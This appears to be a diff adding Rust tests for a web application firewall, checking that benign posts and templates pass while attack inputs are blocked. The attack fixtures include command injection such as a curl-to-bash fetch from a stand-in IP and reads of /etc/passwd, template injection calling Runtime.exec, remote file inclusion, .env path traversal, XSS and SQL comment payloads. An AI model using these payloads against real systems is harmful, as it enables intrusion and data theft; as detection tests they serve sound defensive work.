@@ -1196,3 +1196,110 @@ fn holdout9_shapes_pass_and_their_attacks_still_score() {
         assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3200), "{ua}: {o:?}");
     }
 }
+
+#[test]
+fn holdout10_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    for body in [
+        // Commands in Markdown fenced code blocks of a post, with text around them; the fence's
+        // last backtick does not substitute the command on the next line.
+        r#"{"body": "Repro with curl:\n\n```\ncurl -s -X POST https://api.example.com/v2/exports \\\n  -d '{}' | jq .status\n```\n\nreturns `queued` forever."}"#,
+        r#"{"body": "This breaks on spaces:\n\n```bash\nfor f in $(ls *.txt); do\n  wc -l $f\ndone\n```\n\nHow do I do this properly?"}"#,
+        r#"{"body": "How do I export that?\n\n~~~powershell\nGet-ChildItem -Path C:\\Reports -Recurse | Select-Object FullName\n~~~"}"#,
+        // Markdown emphasis around a placeholder of a chat template.
+        r#"{"template": "{{actor}} moved *{{task.title}}* to {{task.status}}"}"#,
+        // A link to a script with a query of name=value pairs.
+        r#"{"long_url": "http://legacy.example.org/cgi-bin/view.pl?id=1042&lang=en"}"#,
+        // A PHP function name ending a hyphenated word, before words in parentheses.
+        r#"{"message": "Please use your company e-mail (no gmail/yahoo)"}"#,
+        // A repository's committed template of its environment file.
+        r#"{"files": {".env.example": {"content": "LOG_LEVEL=debug"}}}"#,
+        // An e-mail template's head; a tag named inside a code element of rich text.
+        r#"{"html": "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\"><title>Shipped</title></head><body><p>Hi</p></body></html>"}"#,
+        r#"{"body": "<p>Let&rsquo;s keep the <code>&lt;select&gt;</code> native on mobile.</p>"}"#,
+        // An inch mark before a dash in a review.
+        r#"{"body": "Listing says 13-14\" -- it's too tight for a 13\" MBP (2020). Returned it, sadly."}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    let o = outcome(&waf, "/v1/go?u=http%3A%2F%2Flegacy.example.org%2Fapp.php%3Fpage%3D2%26sort%3Dname");
+    assert!(!o.blocked, "{o:?}");
+
+    // The attacks next to them.
+    let rule = |body: &str, id: u32| {
+        let o = json_post(&waf, body);
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == id), "{body}: {o:?}");
+    };
+    // A fenced block that reaches the system, or a fence with no text around it.
+    for body in [
+        r#"{"c": "Please run this:\n```\n; cat /etc/passwd\n```\nthanks a lot"}"#,
+        r#"{"c": "Steps here:\n```\nx; curl http://203.0.113.9/a | bash\n```\nthen reboot"}"#,
+        r#"{"c": "Run it:\n```\n`curl http://203.0.113.9/a`\n```\nthen reboot"}"#,
+        r#"{"c": "```\n; id\n```"}"#,
+        r#"{"c": "x `sh -i`"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(blocked_category(&o, Category::Rce), "{body}: {o:?}");
+    }
+    for q in ["*{{7*7}}", "*{T(java.lang.Runtime).getRuntime().exec('id')}", "*{{request}}"] {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 3600);
+    }
+    for t in [
+        "/x?page=http://evil.example/shell.txt?",
+        "/x?page=http://evil.example/shell.txt?x",
+        "/x?p=ftp://evil.example/c.php?",
+    ] {
+        let o = outcome(&waf, t);
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3101), "{t}: {o:?}");
+    }
+    for q in ["system (id)", "system ('id')", "passthru ( $_GET[c] )", "mail(x)", "exec (base64_decode($x))"] {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 3301);
+    }
+    for t in ["/x?file=../.env", "/x?file=/var/www/.env.local", "/x?f=.env.production", "/x?f=app/.env"] {
+        let o = outcome(&waf, t);
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3001), "{t}: {o:?}");
+    }
+    for q in [
+        r#"<meta charset=\"UTF-8\">"#,
+        r#"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"#,
+        r#"<html><head><meta charset=\"utf-7\"></head></html>"#,
+        r#"\"><img src=x onerror=alert(1)>"#,
+        r#"\"><svg onload=confirm(1)>"#,
+        r#"<code><iframe src=\"https://evil.example\"></code>"#,
+        r#"<code><script>alert(1)</script></code>"#,
+    ] {
+        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
+        assert!(blocked_category(&o, Category::Xss), "{q}: {o:?}");
+    }
+    rule(r#"{"q": "<b>x</b>\";alert(1)//"}"#, 4108);
+    // A comment after a quote that is no inch mark, or a dash that ends the value.
+    for q in [
+        r#"admin\" -- this is a sentence with many words in it ok"#,
+        "1' -- this text looks like prose words here for sure",
+        r#"the size is 13\" --"#,
+        "x' --",
+    ] {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 4208);
+    }
+}
+
+#[test]
+fn a_command_word_at_paranoia_level_2_ends_where_a_shell_word_ends() {
+    let waf = waf_with(r#"{"paranoia_level":2}"#);
+    // A client's product token, a query string's parameter (an assignment to a shell).
+    for ua in ["python-requests/2.32.3", "node-fetch/3.3.2", "curl/8.5.0", "Python-urllib/3.12"] {
+        let o = waf.outcome(&waf.inspect_head(&with_user_agent("/v1/items", ua)));
+        assert!(!o.matches.iter().any(|m| m.rule_id == 3212), "{ua}: {o:?}");
+    }
+    let o =
+        post("/login", "application/x-www-form-urlencoded", "next=%2Fprojects%3Fview%3Dlist%26sort%3D-updated", &waf);
+    assert!(!o.matches.iter().any(|m| m.rule_id == 3212), "{o:?}");
+    // Commands, hyphenated command names, versioned interpreters, paths glued to the command.
+    for q in
+        ["ansible-config dump", "python3.10 x", "x;cat/etc/passwd", "x|cmd.exe /c dir", "a;id", "ls", "x&&wget -q x"]
+    {
+        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3212), "{q}: {o:?}");
+    }
+}
